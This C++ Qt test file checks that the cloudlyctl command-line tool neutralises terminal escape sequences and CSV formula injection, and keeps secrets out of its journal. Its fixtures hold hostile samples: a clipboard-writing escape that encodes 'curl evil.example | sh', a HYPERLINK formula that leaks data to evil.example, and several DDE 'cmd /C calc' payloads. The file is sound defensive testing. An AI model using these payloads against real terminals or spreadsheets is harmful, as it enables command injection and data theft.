// What cloudlyctl writes is safe to show and to open: a workload's log line, a server's name or a journal
// text never carries a control character the terminal obeys (ESC ] 52 writes the clipboard, ESC [ 2K and
// CR hide lines), a CSV cell never starts a spreadsheet formula, and a secret inside an object or array a
// service gains never reaches the journal it prints. Against a real demo server with a fixture that holds
// such strings, checked on cloudlyctl's stdout bytes and with Python's csv module as a spreadsheet reads it.
#include "core/journal/journalrecorder.h"
#include "core/journal/journalstore.h"
#include "ctlprocess.h"
#include "serverprocess.h"

#include <QDir>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QProcess>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <QTest>

using namespace cloudly;
using test::CtlRun;
using test::ServerProcess;

namespace {
// ESC ] 52 ; c ; base64 BEL: sets the clipboard of xterm-like terminals. ESC [ 2K CR: erases the line.
const QString kClipboard = QStringLiteral("\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 clipboard written");
const QString kErase = QStringLiteral("\x1b[2K\rlooks clean");
const QString kC1 = QStringLiteral("c1 \u009b31m red \u202e reversed");
const QString kFormula = QStringLiteral("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")");

QJsonObject readFixture()
{
    QFile f(QStringLiteral(CLOUDLY_SOURCE_DIR "/resources/fixtures/demo.json"));
    if (!f.open(QIODevice::ReadOnly))
        return {};
    return QJsonDocument::fromJson(f.readAll()).object();
}

// Raw control bytes a terminal acts on: C0 except LF (and CR in CSV), DEL, and UTF-8 encoded C1.
QString controlBytesIn(const QByteArray& bytes, bool csv = false)
{
    for (qsizetype i = 0; i < bytes.size(); ++i) {
        const auto b = static_cast<unsigned char>(bytes.at(i));
        const bool allowed = b == '\n' || (csv && (b == '\r' || b == '\t'));
        if ((b < 0x20 && !allowed) || b == 0x7f)
            return QStringLiteral("byte 0x%1 at %2").arg(b, 2, 16, QLatin1Char('0')).arg(i);
        if (b == 0xc2 && i + 1 < bytes.size() && static_cast<unsigned char>(bytes.at(i + 1)) >= 0x80 &&
            static_cast<unsigned char>(bytes.at(i + 1)) <= 0x9f)
            return QStringLiteral("C1 control at %1").arg(i);
        if (b == 0xe2 && i + 2 < bytes.size() && static_cast<unsigned char>(bytes.at(i + 1)) == 0x80 &&
            static_cast<unsigned char>(bytes.at(i + 2)) >= 0xaa &&
            static_cast<unsigned char>(bytes.at(i + 2)) <= 0xae)
            return QStringLiteral("bidi override at %1").arg(i);
    }
    return {};
}
} // namespace

class TestOutputSafety : public QObject
{
    Q_OBJECT

    QTemporaryDir m_dir;
    std::unique_ptr<ServerProcess> m_server;
    QMap<QString, QString> m_env;
    QString m_task;
    QString m_service;

    CtlRun ctl(QStringList args) const
    {
        args.prepend(m_server->url().toString());
        args.prepend(QStringLiteral("--url"));
        return test::runCloudlyctl(args, m_env);
    }

private Q_SLOTS:
    void initTestCase()
    {
        QVERIFY(m_dir.isValid());
        QJsonObject fixture = readFixture();
        QVERIFY(!fixture.isEmpty());
        QJsonArray deployments = fixture.value(QStringLiteral("deployments")).toArray();
        QVERIFY(!deployments.isEmpty());
        QJsonObject task = deployments.first().toObject();
        m_task = task.value(QStringLiteral("id")).toString();
        m_service = task.value(QStringLiteral("serviceId")).toString();
        QJsonArray log = task.value(QStringLiteral("deploymentLog")).toArray();
        for (const QString& line : {kClipboard, kErase, kC1})
            log.append(line);
        task.insert(QStringLiteral("deploymentLog"), log);
        deployments.replace(0, task);
        fixture.insert(QStringLiteral("deployments"), deployments);
        // Service names: one with terminal escapes, the rest spreadsheet formulas.
        QJsonArray services = fixture.value(QStringLiteral("services")).toArray();
        QVERIFY(services.size() >= 5);
        const QStringList names{
            QStringLiteral("\x1b]0;owned\x07web"), kFormula, QStringLiteral("+cmd|' /C calc'!A0"),
            QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0"), QStringLiteral("-2+3+cmd|' /C calc'!A0")};
        for (int i = 0; i < names.size(); ++i) {
            QJsonObject s = services.at(i).toObject();
            QJsonObject data = s.value(QStringLiteral("data")).toObject();
            data.insert(QStringLiteral("name"), names.at(i));
            data.insert(QStringLiteral("description"), QStringLiteral("\tdesc\r with tab and cr"));
            s.insert(QStringLiteral("data"), data);
            services.replace(i, s);
        }
        fixture.insert(QStringLiteral("services"), services);
        const QString path = m_dir.filePath(QStringLiteral("fixture.json"));
        QFile out(path);
        QVERIFY(out.open(QIODevice::WriteOnly));
        out.write(QJsonDocument(fixture).toJson());
        out.close();
        m_server = std::make_unique<ServerProcess>(ServerProcess::Kind::DemoServer,
                                                   QStringList{QStringLiteral("--fixture"), path});
        QVERIFY2(m_server->start(), qPrintable(m_server->error()));
        m_env = {{QStringLiteral("CLOUDLY_USER"), QStringLiteral("admin")},
                 {QStringLiteral("CLOUDLY_PASSWORD"), QStringLiteral("demo")},
                 {QStringLiteral("CLOUDLY_DATA_DIR"), m_dir.filePath(QStringLiteral("data"))}};
    }

    // A task's log as `logs` prints it, alone and merged for its service: the escapes are visible text.
    void logLinesReachTheTerminalWithoutControlCharacters_data()
    {
        QTest::addColumn<QStringList>("args");
        QTest::newRow("task") << QStringList{QStringLiteral("logs"), QStringLiteral("TASK")};
        QTest::newRow("service") << QStringList{QStringLiteral("logs"), QStringLiteral("--service"),
                                                QStringLiteral("SERVICE")};
    }
    void logLinesReachTheTerminalWithoutControlCharacters()
    {
        QFETCH(QStringList, args);
        args.replaceInStrings(QStringLiteral("TASK"), m_task);
        args.replaceInStrings(QStringLiteral("SERVICE"), m_service);
        const CtlRun r = ctl(args);
        QCOMPARE(r.exitCode, 0);
        QVERIFY2(r.out.contains("clipboard written"), r.out.constData()); // the line is there
        QVERIFY2(!r.out.contains('\x1b') && !r.out.contains('\x07'), r.out.constData());
        const QString bad = controlBytesIn(r.out);
        QVERIFY2(bad.isEmpty(), qPrintable(bad));
        QVERIFY2(r.out.contains("\\x1b]52;c;"), r.out.constData()); // shown, as a visible escape
        QVERIFY2(r.out.contains("\\x1b[2K\\x0dlooks clean"), r.out.constData());
        QVERIFY2(r.out.contains("c1 \\u009b31m red \\u202e reversed"), r.out.constData());
    }

    // --format json keeps the line as the server sent it, JSON-escaped (a reader gets the real text).
    void jsonKeepsTheTextEscapedAsJson()
    {
        const CtlRun r =
            ctl({QStringLiteral("--format"), QStringLiteral("json"), QStringLiteral("logs"), m_task});
        QCOMPARE(r.exitCode, 0);
        // JSON escapes C0 (and DEL is not in these lines); C1 and bidi characters are valid JSON text.
        QVERIFY2(!r.out.contains('\x1b') && !r.out.contains('\x07') && !r.out.contains('\r'),
                 r.out.constData());
        const QJsonArray lines = QJsonDocument::fromJson(r.out).array();
        QStringList texts;
        for (const QJsonValue& l : lines)
            texts << l.toObject().value(QStringLiteral("line")).toString();
        QVERIFY(texts.contains(kClipboard));
        QVERIFY(texts.contains(kErase));
        QVERIFY(texts.contains(kC1));
    }

    // Listings in a table, and error messages on stderr: the names' escapes are visible.
    void listingsAndMessagesWithoutControlCharacters()
    {
        CtlRun r = ctl({QStringLiteral("services")});
        QCOMPARE(r.exitCode, 0);
        QVERIFY2(r.out.contains("\\x1b]0;owned\\x07web"), r.out.constData());
        QString bad = controlBytesIn(r.out);
        QVERIFY2(bad.isEmpty(), qPrintable(bad));
        bad = controlBytesIn(r.err);
        QVERIFY2(bad.isEmpty(), qPrintable(bad));
        r = ctl({QStringLiteral("--format"), QStringLiteral("csv"), QStringLiteral("services")});
        QCOMPARE(r.exitCode, 0);
        bad = controlBytesIn(r.out, true);
        QVERIFY2(bad.isEmpty(), qPrintable(bad));
    }

    // --format csv as a spreadsheet reads it (Python's csv module): no cell starts a formula, and the
    // names are all there, each behind the single quote OWASP recommends.
    void csvCellsNeverStartAFormula()
    {
        const CtlRun r = ctl({QStringLiteral("--format"), QStringLiteral("csv"), QStringLiteral("services")});
        QCOMPARE(r.exitCode, 0);
        QProcess python;
        python.start(
            QStringLiteral("python3"),
            {QStringLiteral("-c"),
             QStringLiteral("import csv,io,json,sys\n"
                            "rows=list(csv.reader(io.StringIO(sys.stdin.buffer.read().decode('utf-8'),"
                            "newline='')))\n"
                            "print(json.dumps(rows))\n")});
        QVERIFY(python.waitForStarted());
        python.write(r.out);
        python.closeWriteChannel();
        QVERIFY(python.waitForFinished(30000));
        QCOMPARE(python.exitCode(), 0);
        const QJsonArray rows = QJsonDocument::fromJson(python.readAllStandardOutput()).array();
        QVERIFY(rows.size() > 5);
        const qsizetype columns = rows.first().toArray().size();
        QStringList cells;
        for (const QJsonValue& row : rows) {
            QCOMPARE(row.toArray().size(), columns); // every row whole
            for (const QJsonValue& cell : row.toArray())
                cells << cell.toString();
        }
        for (const QString& cell : std::as_const(cells)) {
            if (cell.isEmpty())
                continue;
            const QChar c = cell.front();
            const bool number = QRegularExpression(QStringLiteral("^-[0-9.]+$")).match(cell).hasMatch();
            QVERIFY2(!QStringLiteral("=+@\t\r").contains(c) && (c != QLatin1Char('-') || number),
                     qPrintable(cell));
        }
        QVERIFY2(cells.contains(QLatin1Char('\'') + kFormula), qPrintable(cells.join(QLatin1Char('|'))));
        QVERIFY(cells.contains(QStringLiteral("'+cmd|' /C calc'!A0")));
        QVERIFY(cells.contains(QStringLiteral("'@SUM(1+1)*cmd|' /C calc'!A0")));
        QVERIFY(cells.contains(QStringLiteral("'-2+3+cmd|' /C calc'!A0")));
    }

    // A service gains an object, and an array of objects, holding secrets, and one with an escape in its
    // name: `cloudlyctl journal` (table, CSV, JSON) prints the changes, never the secrets or the escape.
    void journalPrintsNoNestedSecretAndNoEscape()
    {
        const QString data = m_dir.filePath(QStringLiteral("journal-data"));
        qputenv("CLOUDLY_DATA_DIR", data.toUtf8());
        const QString path = core::JournalStore::defaultPath(QStringLiteral("nested"));
        qunsetenv("CLOUDLY_DATA_DIR");
        QVERIFY(path.startsWith(data));
        const auto service = [](const QJsonObject& d) {
            core::Service s;
            s.id = QStringLiteral("svc-web");
            s.raw = QJsonObject{{QStringLiteral("id"), s.id}, {QStringLiteral("data"), d}};
            return s;
        };
        const QJsonObject before{{QStringLiteral("name"), QStringLiteral("web")}};
        QJsonObject after = before;
        after.insert(QStringLiteral("name"), QStringLiteral("web\x1b]52;c;ZXZpbA==\x07"));
        after.insert(QStringLiteral("registry"),
                     QJsonObject{{QStringLiteral("host"), QStringLiteral("registry.example")},
                                 {QStringLiteral("password"), QStringLiteral("SECRET-registry-pw")}});
        after.insert(
            QStringLiteral("volumes"),
            QJsonArray{QJsonObject{{QStringLiteral("name"), QStringLiteral("keys")},
                                   {QStringLiteral("privateKey"), QStringLiteral("SECRET-private-key")},
                                   {QStringLiteral("DB_PASS"), QStringLiteral("SECRET-db-pass")}}});
        {
            core::JournalStore store(path);
            core::JournalRecorder recorder(&store, QStringLiteral("demo"));
            recorder.observeServices({service(before)});
            QCOMPARE(recorder.observeServices({service(after)}).size(), 3);
            store.flush();
        }
        const QMap<QString, QString> env{{QStringLiteral("CLOUDLY_DATA_DIR"), data}};
        for (const char* format : {"table", "csv", "json"}) {
            const CtlRun r = test::runCloudlyctl({QStringLiteral("--profile"), QStringLiteral("nested"),
                                                  QStringLiteral("--format"), QLatin1String(format),
                                                  QStringLiteral("journal")},
                                                 env);
            QCOMPARE(r.exitCode, 0);
            QVERIFY2(r.out.contains("registry.example"), r.out.constData()); // the change is there
            QVERIFY2(!r.out.contains("SECRET") && !r.err.contains("SECRET"), r.out.constData());
            const QString bad = controlBytesIn(r.out, qstrcmp(format, "csv") == 0);
            QVERIFY2(bad.isEmpty(), qPrintable(QLatin1String(format) + QLatin1Char(' ') + bad));
        }
        // The file itself holds no secret either.
        QFile file(path);
        QVERIFY(file.open(QIODevice::ReadOnly));
        QVERIFY(!file.readAll().contains("SECRET"));
    }
};

QTEST_GUILESS_MAIN(TestOutputSafety)
#include "tst_outputsafety.moc"
